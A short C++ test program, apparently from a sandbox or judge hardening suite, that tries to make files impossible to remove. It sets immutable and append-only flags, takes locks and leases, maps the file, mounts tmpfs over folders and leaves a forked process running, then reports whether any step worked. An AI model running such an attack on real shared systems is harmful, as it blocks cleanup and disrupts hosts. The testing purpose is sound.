// Attack: files that cannot be removed: immutable, append-only, locked, leased, mapped, executed, mounted over, held by a watch.
// Verdict: accepted
#include <cstdio>
#include <fcntl.h>
#include <linux/fs.h>
#include <string>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <unistd.h>

int main() {
    bool harm = false;
    for (std::string folder : {"/box/", "/tmp/", "/dev/shm/"}) {
        int file = open((folder + "stays").c_str(), O_RDWR | O_CREAT, 0600), top = open(folder.c_str(), O_RDONLY);
        for (int target : {file, top})
            for (int flag : {FS_IMMUTABLE_FL, FS_APPEND_FL})
                if (ioctl(target, FS_IOC_SETFLAGS, &flag) == 0) harm = true, printf("flag %d in %s\n", flag, folder.c_str());
        flock(file, LOCK_EX);
        fcntl(file, F_SETLEASE, F_WRLCK);
        if (ftruncate(file, 4096) != 0) return 1;
        mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        if (mount("none", folder.c_str(), "tmpfs", 0, nullptr) == 0) harm = true, printf("mounted over %s\n", folder.c_str());
    }
    // Left running, with all of it still held.
    if (fork() == 0)
        for (;;) pause();
    int n;
    if (scanf("%d", &n) == 1 && !harm) printf("unharmed %d\n", n);
}
